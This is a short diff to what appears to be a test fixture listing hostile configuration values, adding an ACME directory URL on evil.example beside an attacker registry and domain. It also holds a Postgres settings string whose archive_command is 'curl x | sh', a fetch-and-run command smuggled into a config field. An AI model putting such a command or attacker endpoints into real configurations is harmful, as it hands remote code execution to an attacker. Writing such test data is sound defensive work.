@@ -44,6 +44,7 @@ HARMFUL = {
     "proxy_image": "evil:2",
     "registry": "evil.example/team",
     "domain": "evil.example",
+    "acme_directory": "https://evil.example/directory",
 }
 COMMAND = '[postgres_settings]\narchive_command = "curl x | sh"\n'
 
